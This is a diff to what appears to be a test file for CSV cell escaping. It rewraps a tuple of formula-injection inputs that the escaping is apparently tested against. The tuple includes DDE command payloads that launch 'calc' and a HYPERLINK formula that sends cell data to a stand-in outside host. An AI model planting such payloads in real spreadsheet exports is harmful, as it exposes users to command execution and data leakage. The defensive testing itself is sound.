@@ -13,7 +13,8 @@ from weirhouse.records.cells import csv_cell, csv_text
 FORMULAS = (
     "=1+2", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2",
     "\n=1+2",
-        '=HYPERLINK("http://elsewhere.example?"&A1,"x")', " =1+2", "＝1+2", "-A1", "+A1", "--3", "-1-1", "+-2", "=", "-",
+        '=HYPERLINK("http://elsewhere.example?"&A1,"x")', " =1+2", "＝1+2", "-A1", "+A1",
+    "--3", "-1-1", "+-2", "=", "-",
     "@", "-e5", "-1,2,3", "-1:2", "1;=2\n=3",
 )  # fmt: skip
 NUMBERS = (-3.5, -1e-7, 1e21, -0.0, 7, -12, 0.1, float("-1e-300"))
